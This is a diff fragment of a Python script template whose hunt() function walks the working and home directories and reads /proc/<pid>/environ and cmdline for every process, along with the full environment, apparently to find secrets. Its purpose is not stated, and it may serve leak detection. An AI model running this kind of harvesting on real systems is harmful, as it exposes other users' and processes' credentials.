@@ -44,10 +44,17 @@ def walk(start):
                 look(os.path.join(root, name))
 
 
+def processes():
+    try:
+        return [name for name in os.listdir("/proc") if name.isdigit()]
+    except OSError:
+        return []
+
+
 def hunt(*everywhere):
     for start in [*{places!r}, os.getcwd(), os.path.expanduser("~"), *everywhere]:
         walk(start)
-    for pid in [name for name in os.listdir("/proc") if name.isdigit()] + {pids!r}:
+    for pid in [*processes(), *{pids!r}, "self"]:
         for what in ("environ", "cmdline"):
             look(f"/proc/{{pid}}/{{what}}")
     environment = repr(dict(os.environ)).encode()
